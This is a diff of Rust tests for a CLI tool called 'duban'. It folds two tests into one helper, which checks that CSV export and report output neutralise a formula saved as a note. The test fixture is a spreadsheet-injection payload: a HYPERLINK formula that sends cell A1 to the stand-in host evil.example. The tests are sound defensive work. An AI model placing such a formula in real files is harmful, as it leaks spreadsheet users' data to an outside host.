@@ -98,11 +98,12 @@ fn check_quotes_a_broken_source_line_printably() {
 
 const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";
 
-#[test]
-fn export_csv_neutralises_a_formula_note() {
+/// The notes column of `duban ARGS` (a CSV with notes in column 13) after
+/// a formula was saved as a note: only the neutralised formula.
+fn formula_notes(args: &[&str]) {
     let dir = dataset();
     set(dir.path(), FORMULA);
-    let out = duban(dir.path(), &["export", "--format", "csv"]);
+    let out = duban(dir.path(), args);
     assert!(out.status.success(), "{}", text(&out.stderr));
     let mut csv = csv::Reader::from_reader(out.stdout.as_slice());
     let notes: Vec<String> = csv
@@ -114,18 +115,13 @@ fn export_csv_neutralises_a_formula_note() {
 }
 
 #[test]
+fn export_csv_neutralises_a_formula_note() {
+    formula_notes(&["export", "--format", "csv"]);
+}
+
+#[test]
 fn report_csv_neutralises_a_formula_note() {
-    let dir = dataset();
-    set(dir.path(), FORMULA);
-    let out = duban(dir.path(), &["report", "--format", "csv"]);
-    assert!(out.status.success(), "{}", text(&out.stderr));
-    let mut csv = csv::Reader::from_reader(out.stdout.as_slice());
-    let notes: Vec<String> = csv
-        .records()
-        .map(|r| r.unwrap()[13].to_string())
-        .filter(|n| !n.is_empty())
-        .collect();
-    assert_eq!(notes, [format!("'{FORMULA}")]);
+    formula_notes(&["report", "--format", "csv"]);
 }
 
 /// `progress set` with `args` fails, names `expected` on stderr, and
